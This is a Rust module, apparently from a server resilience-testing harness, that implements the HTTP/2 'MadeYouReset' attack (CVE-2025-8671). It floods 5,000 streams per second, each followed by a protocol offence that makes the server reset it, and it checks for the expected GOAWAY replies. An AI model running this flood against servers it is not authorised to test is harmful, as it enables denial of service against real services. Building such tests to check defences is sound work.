//! Streams that the server is made to reset (CVE-2025-8671, MadeYouReset).

use anyhow::Result;

use super::{Attack, MIB, nothing};
use crate::frames::http2::{self, DATA, END_HEADERS, END_STREAM, HEADERS, WINDOW_UPDATE};
use crate::judge::{Bound, Told};
use crate::siege::{Field, Flood, flood};

pub(super) const ATTACK: Attack = Attack {
    name: "made-resets",
    does: "HTTP/2 streams on which an offence makes the server send the reset: a WINDOW_UPDATE of 0, one that overflows, DATA after the end",
    rate: "5,000 streams/s",
    told: &[
        "GOAWAY ENHANCE_YOUR_CALM",
        "GOAWAY PROTOCOL_ERROR",
        "GOAWAY STREAM_CLOSED",
    ],
    bound: Bound {
        bytes: MIB,
        because: "http2.max_streams 256 x 4 KiB of a request = 1 MiB",
    },
    prepare: nothing,
    strike,
};

fn strike(field: &Field) -> Result<Told> {
    let block = http2::block(
        "GET",
        "/topics/honest/feed",
        &[("accept", "text/event-stream")],
    );
    let window = field.window;
    let piece = |n: usize| {
        let stream = 2 * n as u32 + 1;
        let open = http2::frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        let offence = match window {
            0 => http2::frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
            // Beyond 2^31-1
            1 => http2::frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]),
            // The client's side of the stream is closed.
            _ => http2::frame(DATA, 0, stream, b"x"),
        };
        [open, offence].concat()
    };
    flood(field, &Flood::of_http2(&[]).per_second(5000), piece)
}
